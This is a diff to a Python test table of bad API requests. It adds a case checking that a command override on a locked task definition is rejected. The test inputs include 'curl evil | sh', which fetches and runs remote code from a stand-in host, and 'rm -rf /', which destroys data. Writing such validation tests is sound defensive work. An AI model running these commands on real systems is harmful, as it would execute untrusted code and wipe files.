@@ -351,6 +351,13 @@ BAD_REQUESTS: list[tuple[str, Any, dict[str, str] | None, int, str]] = [
         "task_definition",
     ),
     ("command not a list", {"definition": "demo", "command": "rm -rf /"}, None, 422, "command"),
+    (
+        "command on a definition that does not allow it",
+        {"definition": "locked", "command": ["sh", "-c", "curl evil | sh"]},
+        None,
+        422,
+        "does not allow a command override",
+    ),
     ("command item not string", {"definition": "demo", "command": [1, 2]}, None, 422, "command"),
     ("parameters not object", {"definition": "demo", "parameters": [1]}, None, 422, "parameters"),
     (
